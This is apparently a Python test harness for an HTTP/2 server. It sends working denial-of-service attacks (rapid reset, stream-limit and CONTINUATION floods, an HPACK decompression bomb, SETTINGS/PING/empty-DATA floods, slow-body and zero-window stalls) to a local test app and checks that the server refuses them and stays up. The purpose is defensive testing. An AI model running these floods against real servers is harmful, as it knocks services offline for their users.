#!/usr/bin/env python3
"""The HTTP/2 attacks of 2019-2024, sent for real (HTTP2AttackTests.swift runs them against
raptor-testapp and then checks the process is still up, its memory bounded, and curl
answered).

    h2_attacks.py --port PORT [--tls --ca CA] --attack NAME [--probe] [--timeout-seconds S]

Prints one JSON line: {"case": NAME, "ok", "detail", ...figures}. With --probe a thread
makes normal requests (h2's H2Connection, on their own connections) all through the
attack: "probe_ok" and "probe_failed" count them, "probe_errors" says why they failed.

What each attack must end in (the server's defence, not a given implementation's):
  rapid-reset          HEADERS then RST_STREAM, in a tight loop: GOAWAY ENHANCE_YOUR_CALM
                       and a close before MAX_RESETS streams.
  stream-limit-flood   SETTINGS_MAX_CONCURRENT_STREAMS streams held open, then new streams
                       past the limit in a tight loop: each refused (RST_STREAM
                       REFUSED_STREAM, never answered), then GOAWAY ENHANCE_YOUR_CALM and a
                       close before MAX_RESETS streams.
  continuation-flood   HEADERS without END_HEADERS, then CONTINUATION frames without end
                       (big frames of new fields, or empty ones): the connection closed with
                       an error before MAX_FLOOD_BYTES.
  hpack-bomb           one 4000-byte field in the dynamic table, referenced 16000 times per
                       request (64 MB decoded each): every such stream refused (431, a
                       RST_STREAM or a connection error), never served; the server's memory
                       is checked by the suite.
  settings-flood, ping-flood
                       frames that each need an ACK, while the client reads nothing: the
                       connection closed (rather than ACKs queued without bound) before all
                       MAX_CONTROL_FRAMES were answered.
  empty-data-flood     zero-length DATA frames on an open stream, endlessly: the connection
                       closed before MAX_CONTROL_FRAMES of them.
  body-stall           a request body that stops coming: a 408, a RST_STREAM or a close,
                       after the server's --body-timeout and within it plus 4 s.
  window-stall         a client that never opens its flow-control window (initial window
                       0) for a response: a RST_STREAM or a close after --write-timeout and
                       within it plus 4 s.
"""
import argparse
import os
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2_wire as w  # noqa: E402

MAX_RESETS = 20000
MAX_FLOOD_BYTES = 16 << 20
MAX_CONTROL_FRAMES = 200000


class Probe(threading.Thread):
    """Normal GETs of / one after another on new connections until stopped."""

    def __init__(self, args):
        super().__init__(daemon=True)
        self.args = args
        self.ok = 0
        self.failed = 0
        self.errors = []
        self.slowest = 0.0
        self.stopping = threading.Event()

    def run(self):
        while not self.stopping.is_set():
            started = time.monotonic()
            try:
                status, body = w.normal_get(self.args.port, "/", tls=self.args.tls, ca=self.args.ca, timeout=5)
                if status == 200 and body == b"Hello, World!":
                    self.ok += 1
                else:
                    self.failed += 1
                    self.errors.append("status %r body %r" % (status, body[:40]))
            except Exception as error:
                self.failed += 1
                self.errors.append("%s: %s" % (type(error).__name__, error))
            self.slowest = max(self.slowest, time.monotonic() - started)
            self.stopping.wait(0.05)

    def finish(self):
        self.stopping.set()
        self.join(10)
        return {"probe_ok": self.ok, "probe_failed": self.failed, "probe_errors": self.errors[:5],
                "probe_slowest_s": round(self.slowest, 3)}


def connect(args, *client_settings, receive_buffer=None):
    return w.Connection(args.port, tls=args.tls, ca=args.ca, timeout=5, receive_buffer=receive_buffer).start(
        *client_settings)


def drain_available(conn, seconds=0.0):
    """Frames already here (or arriving within `seconds`): the GOAWAY if one came, and
    whether the connection closed."""
    deadline = time.monotonic() + seconds
    try:
        while True:
            f = conn.read_frame(deadline if seconds else time.monotonic() + 0.0005)
            if f.kind == w.GOAWAY:
                return f, conn.wait_closed(time.monotonic() + 3)
            try:
                conn.handle(f)
            except w.Closed:
                return None, True
    except w.socket.timeout:
        return None, False
    except w.Closed:
        return None, True


def flood(conn, unit, limit_bytes, watch=False):
    """Sends `unit` over and over until `limit_bytes`, the server closes, or it stops
    reading. With `watch`, looks for a GOAWAY or EOF (without waiting) after every 64 KB
    and stops there (so the bytes sent bound what the server took before it refused);
    without, reads nothing (the floods of frames that each need an answer). Returns
    (bytes sent, how it ended)."""
    batch = unit * max(1, 65536 // len(unit))
    sent = 0
    conn.sock.settimeout(5)
    while sent < limit_bytes:
        try:
            conn.sock.sendall(batch)
        except (BrokenPipeError, ConnectionResetError):
            return sent, "reset"
        except w.socket.timeout:
            return sent, "stopped-reading"
        except OSError as error:
            return sent, "error %s" % error
        sent += len(batch)
        if watch and incoming(conn):
            return sent, "refused"
    return sent, "all-sent"


def incoming(conn):
    """Whether a GOAWAY or EOF is already here (frames before it are dropped); the
    GOAWAY, if any, is put back for ended_by_server."""
    try:
        while True:
            f = conn.read_frame(time.monotonic() + 0.0001)
            if f.kind == w.GOAWAY:
                conn.buffer = w.frame(f.kind, f.flags, f.stream, f.payload) + conn.buffer
                return True
    except w.socket.timeout:
        conn.sock.settimeout(5)
        return False
    except w.Closed:
        return True


def ended_by_server(conn, seconds=5):
    """After a flood: reads what is left until EOF. (goaway frame or None, closed, frames
    read)."""
    frames, goaway = [], None
    deadline = time.monotonic() + seconds
    try:
        while True:
            f = conn.read_frame(deadline)
            frames.append(f)
            if f.kind == w.GOAWAY and goaway is None:
                goaway = f
    except w.Closed:
        return goaway, True, frames
    except w.socket.timeout:
        return goaway, False, frames


# --- the attacks ----------------------------------------------------------------------------------

def rapid_reset(args):
    conn = connect(args)
    fields = w.block(w.request_fields(path="/", scheme=conn.scheme))
    stream, resets = 1, 0
    goaway, closed = None, False
    while resets < MAX_RESETS:
        batch = b"".join(w.headers(s, fields) + w.rst_stream(s, w.CANCEL) for s in range(stream, stream + 200, 2))
        try:
            conn.send(batch)
        except w.Closed:
            closed = True
            break
        stream += 200
        resets += 100
        goaway, closed = drain_available(conn)
        if goaway or closed:
            break
    if not goaway and not closed:
        goaway, closed = drain_available(conn, 5)
    figures = {"resets_sent": resets}
    if goaway is None:
        if closed:
            return False, "closed with no GOAWAY ENHANCE_YOUR_CALM after %d resets" % resets, figures
        return False, "%d HEADERS+RST_STREAM pairs and no GOAWAY" % resets, figures
    last, code = w.goaway_fields(goaway)
    figures["goaway_last_stream"] = last
    ok = code == w.ENHANCE_YOUR_CALM and closed
    return ok, "GOAWAY %s (last stream %d) after %d resets sent; %s" % (
        w.error_name(code), last, resets, "closed" if closed else "NOT closed"), figures


def stream_limit_flood(args):
    conn = connect(args)
    limit = conn.max_concurrent_streams or 100
    held = w.block(w.request_fields("POST", "/echo", conn.scheme))
    conn.send(b"".join(w.headers(1 + 2 * i, held, end_stream=False) for i in range(limit)))
    fields = w.block(w.request_fields(path="/", scheme=conn.scheme))
    stream, opened = 1 + 2 * limit, 0
    refusals, answered, goaway, closed = 0, [], None, False
    while opened < MAX_RESETS and goaway is None and not closed:
        try:
            conn.send(b"".join(w.headers(s, fields) for s in range(stream, stream + 200, 2)))
        except w.Closed:
            closed = True
            break
        stream += 200
        opened += 100
        try:  # what came back so far: refusals, and no response on a refused stream
            while True:
                f = conn.read_frame(time.monotonic() + (0.0005 if opened < MAX_RESETS else 5))
                if f.kind == w.GOAWAY:
                    goaway, closed = f, conn.wait_closed(time.monotonic() + 3)
                    break
                if f.kind == w.RST_STREAM and f.stream > 2 * limit:
                    refusals += w.struct.unpack(">I", f.payload[:4])[0] == w.REFUSED_STREAM
                elif f.kind == w.HEADERS and f.stream > 2 * limit:
                    answered.append(f.stream)
                conn.handle(f)
        except w.socket.timeout:
            pass
        except w.Closed:
            closed = True
    figures = {"streams_past_limit": opened, "refused": refusals}
    if answered:
        return False, "streams past the limit of %d were answered: %r" % (limit, answered[:5]), figures
    if goaway is None:
        return False, "%d streams past the limit of %d, %d refused, no GOAWAY (%s)" % (
            opened, limit, refusals, "closed" if closed else "still open"), figures
    last, code = w.goaway_fields(goaway)
    # The refusals themselves are the conformance suite's (too-many-concurrent-streams); a flood
    # read in one pass can pass the cap before any RST_STREAM leaves (seen under ASan).
    ok = code == w.ENHANCE_YOUR_CALM and closed
    return ok, "GOAWAY %s (last stream %d) after %d streams past the limit of %d, %d refused; %s" % (
        w.error_name(code), last, opened, limit, refusals, "closed" if closed else "NOT closed"), figures


def continuation_flood(args, empty):
    conn = connect(args)
    fields = w.block(w.request_fields(path="/", scheme=conn.scheme))
    conn.send(w.headers(1, fields, end_headers=False))
    if empty:
        unit = w.continuation(1, b"", end_headers=False)
    else:
        # New fields, each a literal without indexing (so no dynamic-table limit stops
        # it), 16 of about 1 KB in each 16 KB frame (the smallest SETTINGS_MAX_FRAME_SIZE).
        payload = b"".join(w.literal("x-flood-%02d" % i, "v" * 1000) for i in range(16))
        unit = w.continuation(1, payload, end_headers=False)
    sent, how = flood(conn, unit, MAX_FLOOD_BYTES, watch=True)
    goaway, closed, _ = ended_by_server(conn)
    figures = {"bytes_sent": sent, "ended": how}
    if how == "reset":
        closed = True
    if not closed or how == "all-sent":
        return False, "%d bytes of CONTINUATION (%s) and the connection %s" % (
            sent, how, "closed only after all" if closed else "is still open"), figures
    if goaway is not None:
        last, code = w.goaway_fields(goaway)
        if code == w.NO_ERROR:
            return False, "closed with GOAWAY NO_ERROR (want an error) after %d bytes" % sent, figures
        return True, "GOAWAY %s and closed after %d bytes sent (%s)" % (w.error_name(code), sent, how), figures
    return True, "closed (no GOAWAY seen) after %d bytes sent (%s)" % (sent, how), figures


def hpack_bomb(args):
    conn = connect(args)
    scheme = conn.scheme
    pseudo = w.block(w.request_fields(path="/", scheme=scheme))
    # Stream 1 puts x-bomb into the server's dynamic table (4000 + 32 bytes of 4096).
    conn.send(w.headers(1, pseudo + w.literal_indexed("x-bomb", "a" * 4000)))
    first = conn.reaction(1)
    if first.kind != "response":
        return False, "the seeding request got %r" % first, {}
    references = b"\xbe" * 16000  # index 62: the newest dynamic entry
    size = conn.max_frame_size
    outcomes = []
    for stream in range(3, 3 + 2 * 20, 2):
        block = pseudo + references
        chunks = [block[i:i + size] for i in range(0, len(block), size)]
        frames = [w.headers(stream, chunks[0], end_headers=len(chunks) == 1)]
        frames += [w.continuation(stream, c, end_headers=i == len(chunks) - 2) for i, c in enumerate(chunks[1:])]
        try:
            conn.send(*frames)
        except w.Closed:
            outcomes.append("closed")
            break
        r = conn.reaction(stream, timeout=10)
        outcomes.append(repr(r))
        if r.kind == "response" and r.status < 400:
            return False, "stream %d with 64 MB of decoded fields was served: %r" % (stream, r), {}
        if r.kind == "nothing":
            return False, "stream %d: no answer within 10 s" % stream, {}
        if r.kind in ("goaway", "closed"):
            break
    return True, "; ".join(sorted(set(outcomes))), {"bomb_streams": len(outcomes)}


def control_flood(args, unit, name):
    # A small receive buffer: the server's ACKs back up at once.
    conn = connect(args, receive_buffer=4096)
    sent, how = flood(conn, unit, MAX_CONTROL_FRAMES * len(unit))
    frames_sent = sent // len(unit)
    goaway, closed, frames = ended_by_server(conn)
    acks = sum(1 for f in frames if f.kind in (w.SETTINGS, w.PING) and f.flags & w.ACK)
    figures = {"frames_sent": frames_sent, "acks_read": acks, "ended": how}
    if how == "reset":
        closed = True
    if not closed:
        return False, "%d %s frames sent (%s), %d ACKs read, and the connection is still open" % (
            frames_sent, name, how, acks), figures
    code = " GOAWAY %s," % w.error_name(w.goaway_fields(goaway)[1]) if goaway else ""
    return True, "closed after %d %s frames sent (%s),%s %d ACKs read" % (frames_sent, name, how, code, acks), figures


def empty_data_flood(args):
    conn = connect(args)
    conn.request(1, w.request_fields("POST", "/echo", conn.scheme), end_stream=False)
    unit = w.data(1, b"")
    sent, how = flood(conn, unit, MAX_CONTROL_FRAMES * len(unit), watch=True)
    goaway, closed, _ = ended_by_server(conn)
    figures = {"frames_sent": sent // len(unit), "ended": how}
    if how == "reset":
        closed = True
    if not closed or how == "all-sent":
        return False, "%d empty DATA frames (%s) and the connection %s" % (
            sent // len(unit), how, "closed only after all" if closed else "is still open"), figures
    code = " GOAWAY %s," % w.error_name(w.goaway_fields(goaway)[1]) if goaway else ""
    return True, "closed after %d empty DATA frames (%s),%s" % (sent // len(unit), how, code), figures


def stall(conn, stream, timeout, what):
    started = time.monotonic()
    r = conn.reaction(stream, timeout=timeout + 4, status=None)
    elapsed = time.monotonic() - started
    figures = {"elapsed_s": round(elapsed, 3)}
    if r.kind == "nothing":
        return False, "%s: nothing within %.1f s" % (what, timeout + 4), figures
    if r.kind == "response" and r.status != 408:
        return False, "%s: %r" % (what, r), figures
    if elapsed < timeout - 0.25:
        return False, "%s: %r after %.2f s, before the %.1f s timeout" % (what, r, elapsed, timeout), figures
    return True, "%s: %r after %.2f s" % (what, r, elapsed), figures


def body_stall(args):
    conn = connect(args)
    conn.request(1, w.request_fields("POST", "/echo", conn.scheme, extra=[("content-length", "100")]),
                 body=b"0123456789", end_stream=False)
    return stall(conn, 1, args.timeout_seconds, "a body stopped at 10 of 100 bytes")


def window_stall(args):
    conn = connect(args, (w.INITIAL_WINDOW_SIZE, 0))
    conn.get(1, "/bytes?n=100000")
    return stall(conn, 1, args.timeout_seconds, "a response into a window of 0")


ATTACKS = {
    "rapid-reset": rapid_reset,
    "stream-limit-flood": stream_limit_flood,
    "continuation-flood": lambda a: continuation_flood(a, empty=False),
    "empty-continuation-flood": lambda a: continuation_flood(a, empty=True),
    "hpack-bomb": hpack_bomb,
    "settings-flood": lambda a: control_flood(a, w.settings(), "SETTINGS"),
    "ping-flood": lambda a: control_flood(a, w.ping(), "PING"),
    "empty-data-flood": empty_data_flood,
    "body-stall": body_stall,
    "window-stall": window_stall,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    w.port_argument(parser)
    parser.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    parser.add_argument("--probe", action="store_true", help="normal requests all through the attack")
    parser.add_argument("--timeout-seconds", type=float, default=1.0,
                        help="the server's --body-timeout / --write-timeout (the stall attacks)")
    args = parser.parse_args()
    probe = Probe(args) if args.probe else None
    if probe:
        probe.start()
    started = time.monotonic()
    try:
        ok, detail, figures = ATTACKS[args.attack](args)
    except Exception as error:
        ok, detail, figures = False, "the attack client raised %s: %s" % (type(error).__name__, error), {}
    figures["attack_s"] = round(time.monotonic() - started, 3)
    if probe:
        figures.update(probe.finish())
    w.report(args.attack, ok, detail, **figures)


if __name__ == "__main__":
    main()
